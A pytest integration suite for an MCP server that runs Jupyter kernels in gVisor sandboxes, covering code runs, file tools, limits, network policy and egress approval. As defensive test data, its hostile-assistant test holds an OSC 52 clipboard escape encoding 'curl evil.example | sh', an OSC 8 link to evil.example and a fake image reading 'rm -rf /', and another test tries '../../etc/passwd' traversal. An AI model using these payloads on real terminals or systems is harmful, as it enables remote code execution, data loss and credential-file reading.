"""``jupyter sandbox-kernel mcp``, driven by the ``mcp`` package's own client over stdio,
the way an AI assistant drives it: real kernels in real gVisor containers."""

from __future__ import annotations

import asyncio
import base64
import ipaddress
import json
import os
import signal
import socket
import sys
import time
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from pathlib import Path
from typing import Any

import docker
import pytest
from mcp import ClientSession, StdioServerParameters, stdio_client
from mcp.client import stdio as mcp_stdio
from mcp.types import CallToolResult, ElicitRequestParams, ElicitResult, ImageContent, TextContent

from sandbox_kernel.plan.sandbox_spec import LABEL_KERNEL_ID

SK = Path(sys.executable).with_name("jupyter-sandbox-kernel")

TOOLS = {
    "start_kernel",
    "run_code",
    "run_command",
    "upload_file",
    "download_file",
    "list_files",
    "delete_file",
    "interrupt_kernel",
    "list_kernels",
    "get_policy",
    "restart_kernel",
    "shutdown_kernel",
}

PLOT = "import matplotlib.pyplot as plt\nplt.plot([1, 2, 3], [1, 4, 9])\nplt.title('squares')\nplt.show()"


@pytest.fixture(autouse=True)
def _patient_client(monkeypatch: pytest.MonkeyPatch) -> None:
    """Give the server time to stop its kernels once stdin closes.

    The client's default grace is 2 s before SIGTERM (the server finishes its shutdown
    on SIGTERM) and 2 s more before SIGKILL; stopping gVisor kernels on a busy
    two-core CI host can take longer, and a SIGKILL would leave them to the orphan reaper.
    """
    monkeypatch.setattr(mcp_stdio, "PROCESS_TERMINATION_TIMEOUT", 60.0)


@asynccontextmanager
async def mcp_server(workspace: Path, *options: str) -> AsyncIterator[ClientSession]:
    """``jupyter-sandbox-kernel mcp --cwd workspace [options]`` as a subprocess, with an
    initialised session."""
    params = StdioServerParameters(
        command=str(SK),
        args=["mcp", "--cwd", str(workspace), *options],
        # The test's isolated Jupyter folders (the client passes only HOME, PATH... by default).
        env=dict(os.environ),
    )
    async with stdio_client(params) as (read, write), ClientSession(read, write) as session:
        await session.initialize()
        yield session


async def call(session: ClientSession, tool: str, **arguments: Any) -> CallToolResult:
    """Call ``tool``, insisting it succeeded; its structured content is there."""
    result = await session.call_tool(tool, arguments, read_timeout_seconds=180)
    assert not result.is_error, f"{tool} failed: {text(result)}"
    assert result.structured_content is not None
    return result


async def run(session: ClientSession, code: str, **arguments: Any) -> dict[str, Any]:
    result = await call(session, "run_code", code=code, **arguments)
    assert result.structured_content is not None
    return result.structured_content


def text(result: CallToolResult) -> str:
    return "\n".join(block.text for block in result.content if isinstance(block, TextContent))


def containers(docker_client: docker.DockerClient, kernel_ids: set[str]) -> list[str]:
    return [
        container.name
        for kernel_id in sorted(kernel_ids)
        for container in docker_client.containers.list(
            all=True, ignore_removed=True, filters={"label": f"{LABEL_KERNEL_ID}={kernel_id}"}
        )
    ]


@pytest.mark.timeout(900)
async def test_an_assistant_runs_code_files_and_kernels_over_stdio(
    jupyter_dirs: Path, workspace: Path, docker_client: docker.DockerClient
) -> None:
    kernel_ids: set[str] = set()
    async with mcp_server(workspace) as session:
        tools = {tool.name: tool for tool in (await session.list_tools()).tools}
        assert set(tools) == TOOLS
        assert tools["run_code"].input_schema["required"] == ["code"]

        first = await run(session, "x = 41 + 1\nprint('hello')\nx")
        kernel_ids.add(first["kernel_id"])
        assert first["status"] == "ok"
        assert first["stdout"] == "hello\n"
        assert [result["text"] for result in first["results"]] == ["42"]
        again = await run(session, "x")
        assert again["kernel_id"] == first["kernel_id"], "one default kernel, its state kept"

        plot = await call(session, "run_code", code=PLOT)
        (image,) = [block for block in plot.content if isinstance(block, ImageContent)]
        assert image.mime_type == "image/png"
        assert base64.b64decode(image.data).startswith(b"\x89PNG\r\n\x1a\n")

        failed = await run(session, "def f():\n    return 1 / 0\nf()")
        assert failed["status"] == "error"
        assert failed["error"]["ename"] == "ZeroDivisionError"
        assert failed["error"]["evalue"] == "division by zero"
        traceback = "\n".join(failed["error"]["traceback"])
        assert "return 1 / 0" in traceback
        assert "\x1b[" not in traceback, "ANSI colour codes are stripped"

        await call(session, "upload_file", path="data/numbers.csv", content="n\n1\n2\n3\n")
        summed = await run(session, "print(sum(int(n) for n in open('data/numbers.csv').read().split()[1:]))")
        assert summed["stdout"] == "6\n"
        png = base64.b64encode(base64.b64decode(image.data)).decode()
        await call(session, "upload_file", path="plot.png", content=png, encoding="base64")
        assert (await run(session, "print(len(open('plot.png', 'rb').read()))"))["stdout"] == (
            f"{len(base64.b64decode(png))}\n"
        )

        await run(
            session,
            "open('report.txt', 'w').write('résumé\\n'); open('raw.bin', 'wb').write(bytes(range(256)))",
        )
        report = (await call(session, "download_file", path="report.txt")).structured_content
        assert report == {"path": "report.txt", "size": 9, "encoding": "utf-8", "content": "résumé\n"}
        raw = (await call(session, "download_file", path="raw.bin")).structured_content
        assert raw is not None
        assert raw["encoding"] == "base64"
        assert base64.b64decode(raw["content"]) == bytes(range(256))

        listing = (await call(session, "list_files")).structured_content
        assert listing is not None
        entries = {entry["name"]: entry for entry in listing["files"]}
        assert {"data", "plot.png", "report.txt", "raw.bin"} <= set(entries)
        assert entries["data"]["is_dir"]
        assert entries["raw.bin"]["size"] == 256
        inside = (await call(session, "list_files", path="data")).structured_content
        assert inside is not None
        assert [entry["name"] for entry in inside["files"]] == ["numbers.csv"]

        restarted = await call(session, "restart_kernel")
        assert restarted.structured_content == {"kernel_id": first["kernel_id"], "status": "restarted"}
        gone = await run(session, "x")
        assert gone["status"] == "error"
        assert gone["error"]["ename"] == "NameError", "a restart forgets the variables"

        stuck = await run(session, "import time\ny = 1\ntime.sleep(300)", timeout=3)
        assert stuck["status"] == "error"
        assert stuck["error"]["ename"] == "TimeoutError"
        assert "was interrupted" in stuck["error"]["evalue"], "run_code's timeout interrupts the cell"
        assert not stuck["restarted"]
        assert (await run(session, "y"))["results"][0]["text"] == "1"

        narrow = await call(session, "start_kernel", memory="512m", network="none")
        assert narrow.structured_content is not None
        narrow_id = narrow.structured_content["kernel_id"]
        kernel_ids.add(narrow_id)
        assert narrow_id != first["kernel_id"]
        offline = await run(
            session,
            "import socket\ntry:\n    socket.create_connection(('1.1.1.1', 53), timeout=3)\n"
            "    print('online')\nexcept OSError:\n    print('offline')",
            kernel_id=narrow_id,
        )
        assert offline["kernel_id"] == narrow_id
        assert offline["stdout"] == "offline\n"
        shared = await run(session, "print(open('report.txt').read(), end='')", kernel_id=narrow_id)
        assert shared["stdout"] == "résumé\n", "every kernel of the server shares the workspace"

        wider = await session.call_tool("start_kernel", {"memory": "64g"})
        assert wider.is_error
        assert "memory" in text(wider)
        unknown = await session.call_tool("run_code", {"code": "1", "kernel_id": "no-such-kernel"})
        assert unknown.is_error
        assert "no kernel 'no-such-kernel'" in text(unknown)
        refused = await session.call_tool("download_file", {"path": "../../etc/passwd"})
        assert refused.is_error
        still = await run(session, "print('still serving')")
        assert still["stdout"] == "still serving\n", "errors do not take the server down"

        down = await call(session, "shutdown_kernel", kernel_id=narrow_id)
        assert down.structured_content == {"kernel_id": narrow_id, "status": "shut down"}
        assert containers(docker_client, {narrow_id}) == []
        after = await session.call_tool("run_code", {"code": "1", "kernel_id": narrow_id})
        assert after.is_error

        assert containers(docker_client, {first["kernel_id"]}) != [], "the default kernel still runs"
    # stdin closed: the server shut its kernels down before exiting.
    assert containers(docker_client, kernel_ids) == []

    audit = Path(os.environ["JUPYTER_DATA_DIR"]) / "sandbox-kernel" / "audit.jsonl"
    lines = [json.loads(line) for line in audit.read_text().splitlines()]
    audited = {(line["kernel_id"], line["code"]) for line in lines if line["event"] == "finished"}
    assert (first["kernel_id"], "x = 41 + 1\nprint('hello')\nx") in audited, "MCP runs are audited"
    assert any(kernel == narrow_id for kernel, _ in audited)


def children(pid: int) -> list[int]:
    """The processes ``pid`` started (Linux)."""
    found = []
    for task in Path(f"/proc/{pid}/task").iterdir():
        found += [int(child) for child in (task / "children").read_text().split()]
    return found


@pytest.mark.timeout(300)
async def test_sigterm_shuts_the_kernels_down(
    jupyter_dirs: Path, workspace: Path, docker_client: docker.DockerClient
) -> None:
    async with mcp_server(workspace) as session:
        kernel_id = (await run(session, "1"))["kernel_id"]
        assert containers(docker_client, {kernel_id}) != []
        (server,) = [
            pid
            for pid in children(os.getpid())
            if "mcp" in Path(f"/proc/{pid}/cmdline").read_bytes().decode(errors="replace").split("\0")
        ]
        os.kill(server, signal.SIGTERM)
        deadline = time.monotonic() + 120
        while not exited(server) and time.monotonic() < deadline:
            await asyncio.sleep(0.2)
        assert exited(server), "SIGTERM ends the server"
        assert containers(docker_client, {kernel_id}) == []


@pytest.mark.timeout(600)
async def test_without_cwd_the_kernels_share_a_fresh_workspace_removed_at_the_end(
    jupyter_dirs: Path, tmp_path: Path, docker_client: docker.DockerClient
) -> None:
    """#23 item 3: an MCP client starts servers in / or its own folder; without --cwd the
    server's kernels now get a fresh folder of its own, not that one."""
    parent = tmp_path / "data" / "sandbox-kernel" / "workspaces"
    params = StdioServerParameters(command=str(SK), args=["mcp"], env=dict(os.environ), cwd="/")
    async with stdio_client(params) as (read, write), ClientSession(read, write) as session:
        await session.initialize()
        done = await run(session, "open('out.txt', 'w').write('hello'); import os; os.getcwd()")
        assert done["status"] == "ok", done
        assert done["text"] == "'/workspace'"
        (folder,) = parent.iterdir()
        assert (folder / "out.txt").read_text() == "hello"
        other = (await call(session, "start_kernel")).structured_content
        assert other is not None
        listed = await run(session, "import os; sorted(os.listdir('.'))", kernel_id=other["kernel_id"])
        assert listed["text"] == "['out.txt']"  # one server's kernels share its workspace
        kernel_ids = {done["kernel_id"], other["kernel_id"]}
    assert list(parent.iterdir()) == []
    assert containers(docker_client, kernel_ids) == []


def exited(pid: int) -> bool:
    """``pid`` is gone or a zombie (our child, not reaped yet)."""
    try:
        return Path(f"/proc/{pid}/stat").read_text().rpartition(")")[2].split()[0] == "Z"
    except FileNotFoundError:
        return True


@pytest.mark.timeout(600)
async def test_a_file_name_that_is_not_utf8_does_not_end_the_server(
    jupyter_dirs: Path, workspace: Path, docker_client: docker.DockerClient
) -> None:
    """Kernel code names a file and a folder with bytes that are not UTF-8: listing them
    once made a result the server could not send, which ended it (and every kernel)."""
    async with mcp_server(workspace) as session:
        made = await run(
            session,
            "import os\n"
            "fd = os.open(b'/workspace/bad\\xff.txt', os.O_WRONLY | os.O_CREAT, 0o644)\n"
            "os.write(fd, b'raw name'); os.close(fd)\n"
            "os.mkdir(b'/workspace/dir\\xfe'); open(b'/workspace/dir\\xfe/inner.txt', 'w').write('inner')\n"
            "print(sorted(os.listdir(b'/workspace')))",
        )
        assert made["stdout"] == "[b'bad\\xff.txt', b'dir\\xfe']\n"
        listing = (await call(session, "list_files")).structured_content
        assert listing is not None
        entries = {entry["name"]: entry for entry in listing["files"]}
        assert set(entries) == {"bad\\xff.txt", "dir\\xfe"}
        assert entries["bad\\xff.txt"]["undecodable"] is True
        assert entries["bad\\xff.txt"]["size"] == len(b"raw name")
        inside = (await call(session, "list_files", path=entries["dir\\xfe"]["path"])).structured_content
        assert inside is not None
        assert [(entry["path"], entry["undecodable"]) for entry in inside["files"]] == [
            ("dir\\xfe/inner.txt", True)
        ]
        got = (await call(session, "download_file", path=entries["bad\\xff.txt"]["path"])).structured_content
        assert got is not None
        assert got["content"] == "raw name"
        still = await run(session, "print('still serving')")
        assert still["stdout"] == "still serving\n"


def server_pid() -> int:
    """The MCP server this test started."""
    (server,) = [
        pid
        for pid in children(os.getpid())
        if "mcp" in Path(f"/proc/{pid}/cmdline").read_bytes().decode(errors="replace").split("\0")
    ]
    return server


def peak_memory(pid: int) -> int:
    """The most memory ``pid`` has held, in bytes (Linux's VmHWM)."""
    for line in Path(f"/proc/{pid}/status").read_text().splitlines():
        if line.startswith("VmHWM:"):
            return int(line.split()[1]) * 1024
    raise AssertionError(f"no VmHWM for {pid}")


OSC52 = "\\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\x07"


@pytest.mark.timeout(900)
async def test_a_hostile_assistant_can_neither_exhaust_nor_trick_the_server(
    jupyter_dirs: Path, workspace: Path, docker_client: docker.DockerClient
) -> None:
    """#21, over MCP as the attacker did it: 500 of 500 start_kernel calls were accepted; one
    256 MiB upload took the server from 92 to 1,665 MiB; list_files returned 100k entries
    in one 23 MiB reply; a 20 MB print gave a 10.5 MB result; OSC 52, OSC 8 and C1 controls
    passed; arbitrary strings went out as image content, and a text file starting with
    GIF89a as an image block that was not base64; a long name raised OSError(36). And the
    instructions named the host's path, which the kernel does not have (#23)."""
    kernel_ids: set[str] = set()
    async with mcp_server(workspace, "--McpLimits.max_kernels=2") as session:
        instructions = session.instructions or ""
        assert "/workspace" in instructions
        assert str(workspace) not in instructions

        printed = await call(session, "run_code", code="print('x' * 20_000_000)")
        assert printed.structured_content is not None
        result = printed.structured_content
        kernel_ids.add(result["kernel_id"])
        assert len(text(printed)) < 40_000, "the result fits an assistant's context"
        assert result["truncated"] is True
        assert "of stdout cut here: all of it is in the workspace file" in result["stdout"]
        saved = result["full_output"]["stdout"]
        assert saved.startswith("/workspace/.mcp-output/")
        on_host = workspace / saved.removeprefix("/workspace/")
        assert on_host.stat().st_size > 5_000_000, "the whole output, as far as the kernel's own limit let it"
        seen = await run(session, f"print(open({saved!r}).read().count('x') > 5_000_000)")
        assert seen["stdout"] == "True\n", "the kernel reads the saved output where the marker says"

        hostile = await run(
            session,
            f"print('a{OSC52}b\\x1b]8;;https://evil.example\\x1b\\\\link\\x1b]8;;\\x1b\\\\c\\x9b2J\\x85d')",
        )
        assert hostile["stdout"] == "ablinkcd\n"

        faked = await call(
            session,
            "run_code",
            code="from IPython.display import display\n"
            "display({'image/png': 'rm -rf / # not an image', 'text/plain': 'x'}, raw=True)\n"
            "open('fake.gif', 'w').write('GIF89a, then text')",
        )
        assert [block for block in faked.content if isinstance(block, ImageContent)] == []
        assert faked.structured_content is not None
        assert faked.structured_content["notes"] == [
            "an output claiming to be image/png is not a valid base64 image/png image: not shown"
        ]
        gif = await call(session, "download_file", path="fake.gif")
        assert [block for block in gif.content if isinstance(block, ImageContent)] == []
        assert gif.structured_content is not None
        assert gif.structured_content["encoding"] == "utf-8"

        long_name = await session.call_tool("upload_file", {"path": "n" * 300, "content": "x"})
        assert long_name.is_error
        assert "a file or folder name may be at most 255 bytes" in text(long_name)
        assert "\n" not in text(long_name)

        made = await run(
            session,
            "import os\nos.mkdir('many')\nfor i in range(100_000):\n    open(f'many/f{i:06}', 'w').close()\n"
            "print(len(os.listdir('many')))",
            timeout=600,
        )
        assert made["stdout"] == "100000\n"
        listed = await call(session, "list_files", path="many")
        assert listed.structured_content is not None
        page = listed.structured_content
        assert (len(page["files"]), page["total"], page["more"], page["next_offset"]) == (
            200,
            100_000,
            True,
            200,
        )
        assert len(text(listed)) < 200_000
        last = await call(session, "list_files", path="many", offset=99_990)
        assert last.structured_content is not None
        assert [entry["name"] for entry in last.structured_content["files"]][-1] == "f099999"
        assert last.structured_content["more"] is False

        second = await call(session, "start_kernel")
        assert second.structured_content is not None
        kernel_ids.add(second.structured_content["kernel_id"])
        refused = await asyncio.gather(*(session.call_tool("start_kernel", {}) for _ in range(5)))
        assert all(result.is_error for result in refused)
        assert "McpLimits.max_kernels = 2" in text(refused[0])
        assert "shutdown_kernel" in text(refused[0])
        await call(session, "shutdown_kernel", kernel_id=second.structured_content["kernel_id"])

        server = server_pid()
        before = peak_memory(server)
        content = base64.b64encode(os.urandom(256 * 1024 * 1024)).decode()
        upload = await session.call_tool(
            "upload_file",
            {"path": "big.bin", "content": content, "encoding": "base64"},
            read_timeout_seconds=300,
        )
        del content
        assert upload.is_error
        assert "this MCP server reads in one message" in text(upload)
        grown = peak_memory(server) - before
        assert grown < 64 * 1024 * 1024, f"the server grew by {grown / 2**20:.0f} MiB for a refused upload"
        assert not (workspace / "big.bin").exists()
        still = await run(session, "print('still serving')")
        assert still["stdout"] == "still serving\n"
    assert containers(docker_client, kernel_ids) == []


async def wait_until_busy(session: ClientSession, kernel_id: str) -> dict[str, Any]:
    """The list_kernels entry of ``kernel_id`` once it runs a cell."""
    deadline = time.monotonic() + 60
    while time.monotonic() < deadline:
        listing = (await call(session, "list_kernels")).structured_content
        assert listing is not None
        (entry,) = [kernel for kernel in listing["kernels"] if kernel["kernel_id"] == kernel_id]
        if entry["busy"]:
            return entry
        await asyncio.sleep(0.2)
    raise AssertionError(f"kernel {kernel_id} never ran the cell")


@pytest.mark.timeout(600)
async def test_an_assistant_interrupts_lists_deletes_and_reads_the_policy(
    jupyter_dirs: Path, workspace: Path, docker_client: docker.DockerClient
) -> None:
    """#23 item 11: no interrupt, list-kernels, delete-file or policy tool; results did not
    say which was the cell's value; download_file's error suggested a max_bytes it does not
    take; a timeout's error carried the KeyboardInterrupt traceback (item 14)."""
    kernel_ids: set[str] = set()
    async with mcp_server(workspace) as session:
        tools = {tool.name: tool for tool in (await session.list_tools()).tools}
        assert set(tools) == TOOLS

        shown = await run(session, "from IPython.display import display\ndisplay('shown')\n6 * 7")
        kernel_id = shown["kernel_id"]
        kernel_ids.add(kernel_id)
        assert [(result["text"], result["is_main_result"]) for result in shown["results"]] == [
            ("'shown'", False),
            ("42", True),
        ]
        assert shown["text"] == "42", "the cell's value, apart from what it displayed"

        started = time.monotonic()
        running = asyncio.create_task(
            session.call_tool(
                "run_code", {"code": "import time\nz = 5\ntime.sleep(300)"}, read_timeout_seconds=180
            )
        )
        entry = await wait_until_busy(session, kernel_id)
        assert entry["default"] is True
        interrupted = await call(session, "interrupt_kernel")
        assert interrupted.structured_content == {"kernel_id": kernel_id, "status": "interrupted"}
        stopped = await running
        assert stopped.structured_content is not None
        assert stopped.structured_content["error"]["ename"] == "KeyboardInterrupt"
        assert time.monotonic() - started < 60
        assert (await run(session, "z"))["text"] == "5", "an interrupt keeps the variables"

        stuck = await run(session, "import time\ntime.sleep(300)", timeout=2)
        assert stuck["error"]["ename"] == "TimeoutError"
        assert "KeyboardInterrupt" not in json.dumps(stuck["error"]), "the timeout says why, alone"

        policy = (await call(session, "get_policy")).structured_content
        assert policy is not None
        assert policy["kernel_id"] == kernel_id
        assert policy["network"] == "none"
        assert policy["allowed_domains"] == []
        assert policy["memory"]
        assert policy["workspace"] == "/workspace"
        narrow = await call(session, "start_kernel", memory="512m", exec_timeout="5m")
        assert narrow.structured_content is not None
        narrow_id = narrow.structured_content["kernel_id"]
        kernel_ids.add(narrow_id)
        narrowed = (await call(session, "get_policy", kernel_id=narrow_id)).structured_content
        assert narrowed is not None
        assert (narrowed["memory"], narrowed["exec_timeout"]) == ("512m", 300)
        listing = (await call(session, "list_kernels")).structured_content
        assert listing is not None
        assert {kernel["kernel_id"]: kernel["default"] for kernel in listing["kernels"]} == {
            kernel_id: True,
            narrow_id: False,
        }
        await call(session, "shutdown_kernel", kernel_id=narrow_id)

        await run(
            session,
            "import os\nopen('old.txt', 'w').write('x')\nos.makedirs('tree/sub')\n"
            "open('tree/sub/f.txt', 'w').write('y')\nopen('big.bin', 'wb').write(bytes(11 * 2**20))",
        )
        await call(session, "delete_file", path="old.txt")
        assert not (workspace / "old.txt").exists()
        folder = await session.call_tool("delete_file", {"path": "tree"})
        assert folder.is_error
        assert "recursive=true" in text(folder)
        await call(session, "delete_file", path="/workspace/tree", recursive=True)
        assert not (workspace / "tree").exists()
        missing = await session.call_tool("delete_file", {"path": "old.txt"})
        assert missing.is_error
        assert "No such file 'old.txt'" in text(missing)

        big = await session.call_tool("download_file", {"path": "big.bin"})
        assert big.is_error
        assert "max_bytes" not in text(big), "download_file takes no max_bytes"
        assert "run_code" in text(big)
    assert containers(docker_client, kernel_ids) == []


@pytest.mark.timeout(600)
async def test_an_assistant_runs_shell_commands_and_kernels_with_a_lifetime(
    jupyter_dirs: Path, workspace: Path, docker_client: docker.DockerClient
) -> None:
    """#23 item 12: a shell command in the sandbox (E2B's commands.run) and a kernel's
    total lifetime (E2B's set_timeout), over MCP."""
    kernel_ids: set[str] = set()
    async with mcp_server(workspace) as session:
        first = await run(session, "x = 1\nopen('data.csv', 'w').write('a\\n1\\n2\\n')")
        kernel_ids.add(first["kernel_id"])
        counted = (
            await call(session, "run_command", command="wc -l < data.csv; id -u; exit 4")
        ).structured_content
        assert counted is not None
        assert (counted["exit_code"], counted["stdout"], counted["error"]) == (4, "3\n1000\n", None)
        assert counted["kernel_id"] == first["kernel_id"], "in the default kernel's sandbox"
        offline = (
            await call(
                session,
                "run_command",
                command="python3 -c \"import socket; socket.create_connection(('1.1.1.1', 53), timeout=3)\" "
                "2>/dev/null && echo online || echo offline",
            )
        ).structured_content
        assert offline is not None
        assert offline["stdout"] == "offline\n", "the kernel's policy holds for commands"
        slow = (await call(session, "run_command", command="sleep 100", timeout=2)).structured_content
        assert slow is not None
        assert (slow["timed_out"], slow["exit_code"]) == (True, None)
        assert (await run(session, "x"))["text"] == "1", "commands leave the namespace alone"
        given = await run(session, "import os\nos.environ['TOKEN']", env={"TOKEN": "t-1"})
        assert given["text"] == "'t-1'"
        assert (await run(session, "os.environ.get('TOKEN')"))["text"] is None, "env is for that cell alone"

        short = (await call(session, "start_kernel", lifetime=5)).structured_content
        assert short is not None
        short_id = short["kernel_id"]
        kernel_ids.add(short_id)
        cut = await run(session, "import time\ntime.sleep(60)", kernel_id=short_id)
        assert cut["error"]["ename"] == "LifetimeExceeded"
        ended = await session.call_tool("run_code", {"code": "1", "kernel_id": short_id})
        assert ended.is_error
        assert "lifetime ran out" in text(ended)
        deadline = time.monotonic() + 30
        while containers(docker_client, {short_id}) and time.monotonic() < deadline:
            await asyncio.sleep(0.5)
        assert containers(docker_client, {short_id}) == []
    assert containers(docker_client, kernel_ids) == []


async def test_the_assistants_client_is_asked_before_a_kernel_leaves_its_allow_list(
    workspace: Path, make_kernelspec: Any, docker_client: docker.DockerClient
) -> None:
    """A kernelspec with approval "egress": the server puts the kernel's request to pypi.org
    (the one site this machine reaches) to the client as an elicitation, in the run_code call
    that made it, and obeys the choice; the result's notes say what happened."""
    asked, allowed = "pypi.org", "files.pythonhosted.org"
    # This machine's network answers them at a non-public address (a proxy of its own).
    found = {info[4][0] for name in (asked, allowed) for info in socket.getaddrinfo(name, 443)}
    private = sorted(f"{a}/32" for a in found if not ipaddress.ip_address(a).is_global)
    config_dir = Path(os.environ["JUPYTER_CONFIG_DIR"])
    config_dir.mkdir(parents=True, exist_ok=True)
    (config_dir / "jupyter_server_config.py").write_text(
        f"c.SandboxProvisioner.max_allowed_domains = [{asked!r}, {allowed!r}]\n"
        f"c.SandboxProvisioner.egress_private_networks = {private!r}\n"
    )
    name = make_kernelspec(
        "py-mcp-asking",
        config={
            "network": "allowlist",
            "allowed_domains": [allowed],
            "approval": "egress",
            "approval_timeout": "20s",
        },
    )
    questions: list[str] = []
    choices = ["once", "deny"]

    async def choose(context: Any, params: ElicitRequestParams) -> ElicitResult:
        questions.append(params.message)
        return ElicitResult(action="accept", content={"answer": choices.pop(0)})

    url = f"https://{asked}/simple/sampleproject/"
    fetch = (
        "import urllib.request\n"
        "try:\n"
        f"    print('OK', urllib.request.urlopen({url!r}, timeout=30).status)\n"
        "except OSError as e:\n"
        "    print('FAILED', e)"
    )
    params = StdioServerParameters(
        command=str(SK), args=["mcp", "--cwd", str(workspace), "--kernel", name], env=dict(os.environ)
    )
    async with (
        stdio_client(params) as (read, write),
        ClientSession(read, write, elicitation_callback=choose) as session,
    ):
        await session.initialize()
        once = await run(session, fetch)
        assert once["stdout"].strip() == "OK 200"
        assert once["notes"] == [f"a connection to {asked}:443 needed approval: the client answered once"]
        denied = await run(session, fetch)
        assert denied["stdout"].startswith("FAILED"), denied
        assert f"{asked}:443 needed approval and was denied by the approval_handler" in denied["stdout"]
        assert denied["notes"] == [f"a connection to {asked}:443 needed approval: the client answered deny"]
    assert [q.split("?")[0] for q in questions] == [f"Sandbox: allow a connection to {asked}:443"] * 2
